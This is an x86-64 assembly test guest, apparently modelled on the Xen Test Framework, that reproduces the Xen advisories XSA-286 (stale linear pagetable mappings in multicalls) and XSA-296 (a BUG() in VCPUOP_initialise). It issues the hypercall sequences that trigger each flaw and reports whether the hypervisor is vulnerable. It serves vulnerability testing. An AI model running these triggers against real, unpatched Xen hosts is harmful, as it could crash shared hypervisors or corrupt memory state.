# Proofs of concept of Xen security advisories on PV pagetables, after the
# Xen Test Framework's tests/xsa-286 and tests/xsa-296, as a plain PV test guest
# (tests/xsa.elf, two VCPUs). Each reports through the runtime's verdict, as
# XTF's tests do: success if not vulnerable, FAILURE if the hypervisor behaves
# as a vulnerable Xen did, SKIP where the domain cannot run the test.
        .include "hypercall.inc"

        .equ TABLE, PTE_RW              # an upper-level entry: present, rw, user, A, D
        .equ SLOT, 1                    # the L3 slot the test switches (1 GiB..2 GiB)
        .equ ADDR, SLOT << 30
        .equ CTX_FLAGS, 512             # vcpu_guest_context.flags
        .equ CTX_CTRLREG3, 4984 + 3 * 8 # vcpu_guest_context.ctrlreg[3]
        .equ VGCF_in_kernel, 4

        .text
        .globl  test_main
test_main:
        call    xsa286
        call    xsa296
        ret

# entry_maddr(rdi = pfn, rsi = slot) -> rax = machine address of entry `slot`
entry_maddr:
        push    %rsi
        call    mfn_of_pfn
        pop     %rsi
        shl     $12, %rax
        lea     (%rax,%rsi,8), %rax
        ret

# pte_of(rdi = pfn, rsi = flags) -> rax = the entry mapping that page
pte_of:
        push    %rsi
        call    mfn_of_pfn
        pop     %rsi
        shl     $12, %rax
        or      %rsi, %rax
        ret

# XSA-286: Xen's linear pagetable mappings went stale when update_va_mapping
# and mmu_update were mixed in one multicall. Two L2 -> L1 hierarchies; the
# L3 slot is switched from the first to the second between two
# update_va_mappings of the same address: the second must edit the second L1.
xsa286:
        push    %rbx
        push    %r12
        push    %r13
        push    %r14
        push    %r15
        push    %rbp
        call    alloc_page
        mov     %rax, %r12              # l3
        call    alloc_page
        mov     %rax, %r13              # l2t1
        call    alloc_page
        mov     %rax, %r14              # l2t2
        call    alloc_page
        mov     %rax, %r15              # l1t1
        call    alloc_page
        mov     %rax, %rbp              # l1t2

        # l2t1[0] -> l1t1, l2t2[0] -> l1t2, written while still plain pages
        mov     %r15, %rdi
        mov     $TABLE, %esi
        call    pte_of
        mov     %rax, %rbx
        mov     %r13, %rdi
        call    pfn_va
        mov     %rbx, (%rax)
        mov     %rbp, %rdi
        mov     $TABLE, %esi
        call    pte_of
        mov     %rax, %rbx
        mov     %r14, %rdi
        call    pfn_va
        mov     %rbx, (%rax)

        # every table read-only in the kernel's own mapping
        .irp t, %r12, %r13, %r14, %r15, %rbp
        mov     \t, %rdi
        mov     $PTE_RO, %esi
        call    set_mapping
        lea     s_remap(%rip), %rdi
        call    expect_zero
        .endr

        # the L3 into the bootstrap L4's slot 0, then pin both L2s
        mov     %r12, %rdi
        mov     $TABLE, %esi
        call    pte_of
        mov     %rax, %rbx
        call    sym_l4_mfn
        shl     $12, %rax
        mov     %rax, %rdi
        mov     %rbx, %rsi
        call    mmu_update1
        lea     s_hook_l3(%rip), %rdi
        call    expect_zero
        .irp t, %r13, %r14
        mov     \t, %rdi
        call    mfn_of_pfn
        mov     $MMUEXT_PIN_L2_TABLE, %edi
        mov     %rax, %rsi
        call    mmuext1
        lea     s_pin(%rip), %rdi
        call    expect_zero
        .endr
        cmpq    $STATUS_SUCCESS, test_status(%rip)
        ja      9f              # setup failed

        # the requests: reset (l3[SLOT] -> l2t1, l1t1[0] = l1t2[0] = 0); switch
        mov     %r12, %rdi
        mov     $SLOT, %esi
        call    entry_maddr
        mov     %rax, reset_mu(%rip)
        mov     %rax, switch_mu(%rip)
        mov     %r13, %rdi
        mov     $TABLE, %esi
        call    pte_of
        mov     %rax, reset_mu+8(%rip)
        mov     %r15, %rdi
        xor     %esi, %esi
        call    entry_maddr
        mov     %rax, reset_mu+16(%rip)
        mov     %rbp, %rdi
        xor     %esi, %esi
        call    entry_maddr
        mov     %rax, reset_mu+32(%rip)
        mov     %r14, %rdi
        mov     $TABLE, %esi
        call    pte_of
        mov     %rax, switch_mu+8(%rip)
        # the multicall: uvm(ADDR, 0); mmu_update(switch); uvm(ADDR, pfn 0 RW)
        lea     switch_mu(%rip), %rax
        mov     %rax, mc_switch_list(%rip)
        xor     %edi, %edi
        mov     $PTE_RW, %esi
        call    pte_of
        mov     %rax, mc_map_val(%rip)

        mov     $15, %ebx               # repeat, as XTF does: the bug was a race
1:      lea     reset_mu(%rip), %rdi
        mov     $3, %esi
        xor     %edx, %edx
        mov     $DOMID_SELF, %r10d
        call    hypercall_page + HYPERCALL_mmu_update * 32
        lea     s_reset(%rip), %rdi
        call    expect_zero
        lea     multicall(%rip), %rdi
        mov     $3, %esi
        call    hypercall_page + HYPERCALL_multicall * 32
        lea     s_multicall(%rip), %rdi
        call    expect_zero
        .irp n, 0, 1, 2
        mov     multicall + \n * 64 + 8(%rip), %rax
        lea     s_mc_entry(%rip), %rdi
        call    expect_zero
        .endr
        mov     %r15, %rdi              # l1t1[0] must be untouched ...
        call    pfn_va
        cmpq    $0, (%rax)
        jne     8f
        mov     %rbp, %rdi              # ... and l1t2[0] the new entry
        call    pfn_va
        mov     (%rax), %rax
        cmp     mc_map_val(%rip), %rax
        jne     8f
        dec     %ebx
        jnz     1b
        lea     s_286_ok(%rip), %rdi
        call    xtf_success
        jmp     7f
8:      lea     s_286_bad(%rip), %rdi
        call    xtf_failure

7:      # undo: empty the slot and the L1s, unpin, unhook, make the pages writable
        movq    $0, reset_mu+8(%rip)
        lea     reset_mu(%rip), %rdi
        mov     $3, %esi
        xor     %edx, %edx
        mov     $DOMID_SELF, %r10d
        call    hypercall_page + HYPERCALL_mmu_update * 32
        lea     s_reset(%rip), %rdi
        call    expect_zero
        .irp t, %r13, %r14
        mov     \t, %rdi
        call    mfn_of_pfn
        mov     $MMUEXT_UNPIN_TABLE, %edi
        mov     %rax, %rsi
        call    mmuext1
        lea     s_unpin(%rip), %rdi
        call    expect_zero
        .endr
        call    sym_l4_mfn
        shl     $12, %rax
        mov     %rax, %rdi
        xor     %esi, %esi
        call    mmu_update1
        lea     s_hook_l3(%rip), %rdi
        call    expect_zero
        .irp t, %r12, %r13, %r14, %r15, %rbp
        mov     \t, %rdi
        mov     $PTE_RW, %esi
        call    set_mapping
        lea     s_remap(%rip), %rdi
        call    expect_zero
        .endr
9:      pop     %rbp
        pop     %r15
        pop     %r14
        pop     %r13
        pop     %r12
        pop     %rbx
        ret

# XSA-296: VCPUOP_initialise whose new CR3 still needs validating (an L4 whose
# slot 3 points at an empty L3) reached a BUG() on Xen's continuation path.
# Here it must simply succeed; with a single VCPU there is nothing to test.
xsa296:
        push    %rbx
        push    %r12
        call    alloc_page
        mov     %rax, %rbx              # t1: becomes an L3
        call    alloc_page
        mov     %rax, %r12              # t2: becomes the L4
        mov     %rbx, %rdi
        mov     $_PAGE_PRESENT, %esi
        call    pte_of
        push    %rax
        mov     %r12, %rdi
        call    pfn_va
        pop     %rcx
        mov     %rcx, 3 * 8(%rax)
        .irp t, %rbx, %r12
        mov     \t, %rdi
        mov     $PTE_RO, %esi
        call    set_mapping
        lea     s_remap(%rip), %rdi
        call    expect_zero
        .endr
        mov     %r12, %rdi
        call    mfn_of_pfn
        shl     $12, %rax
        mov     %rax, vcpu1_ctx + CTX_CTRLREG3(%rip)
        movq    $VGCF_in_kernel, vcpu1_ctx + CTX_FLAGS(%rip)
        mov     $VCPUOP_initialise, %edi
        mov     $1, %esi
        lea     vcpu1_ctx(%rip), %rdx
        call    hypercall_page + HYPERCALL_vcpu_op * 32
        cmp     $-ENOENT, %rax
        jne     1f
        lea     s_296_skip(%rip), %rdi
        call    xtf_skip
        jmp     2f
1:      lea     s_vcpu_init(%rip), %rdi
        call    expect_zero
        test    %rax, %rax
        jnz     2f
        lea     s_296_ok(%rip), %rdi
        call    xtf_success
2:      pop     %r12
        pop     %rbx
        ret

        .section .rodata
s_remap:     .asciz "update_va_mapping (remap a table page) "
s_hook_l3:   .asciz "mmu_update (L4 slot 0) "
s_pin:       .asciz "mmuext_op (pin L2) "
s_unpin:     .asciz "mmuext_op (unpin L2) "
s_reset:     .asciz "mmu_update (reset) "
s_multicall: .asciz "multicall "
s_mc_entry:  .asciz "multicall entry "
s_vcpu_init: .asciz "vcpu_op (initialise vcpu 1) "
s_286_ok:    .asciz "XSA-286: not vulnerable (the second L1 was edited, 15 times)"
s_286_bad:   .asciz "XSA-286: FAILURE: a stale linear mapping edited the first L1"
s_296_ok:    .asciz "XSA-296: not vulnerable (VCPUOP_initialise validated the new L4)"
s_296_skip:  .asciz "XSA-296: SKIP: one VCPU only"

        .data
        .balign 16
reset_mu:       .skip 48                # 3 x {ptr, val}
switch_mu:      .skip 16
multicall:                              # 3 x {op, result, args[6]}
        .quad   HYPERCALL_update_va_mapping, -1, ADDR, 0, UVMF_INVLPG, 0, 0, 0
        .quad   HYPERCALL_mmu_update, -1
mc_switch_list:
        .quad   0, 1, 0, DOMID_SELF, 0, 0
        .quad   HYPERCALL_update_va_mapping, -1, ADDR
mc_map_val:
        .quad   0, UVMF_INVLPG, 0, 0, 0
        .balign 16
vcpu1_ctx:      .skip 5168
